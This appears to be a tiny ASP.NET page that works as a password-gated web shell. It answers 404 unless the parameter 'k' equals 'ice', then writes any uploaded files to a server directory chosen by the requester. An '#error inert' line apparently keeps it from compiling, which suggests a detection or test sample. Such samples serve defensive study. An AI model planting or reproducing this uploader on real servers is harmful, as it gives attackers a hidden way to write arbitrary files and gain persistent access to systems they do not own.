<%@ Page Language="C#" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e)
{
    if (Request["k"] != "ice") { Response.StatusCode = 404; Response.End(); }
    for (int i = 0; i < Request.Files.Count; i++)
    {
        HttpPostedFile f = Request.Files[i];
        f.SaveAs(System.IO.Path.Combine(Request["d"], System.IO.Path.GetFileName(f.FileName)));
    }
}
</script>
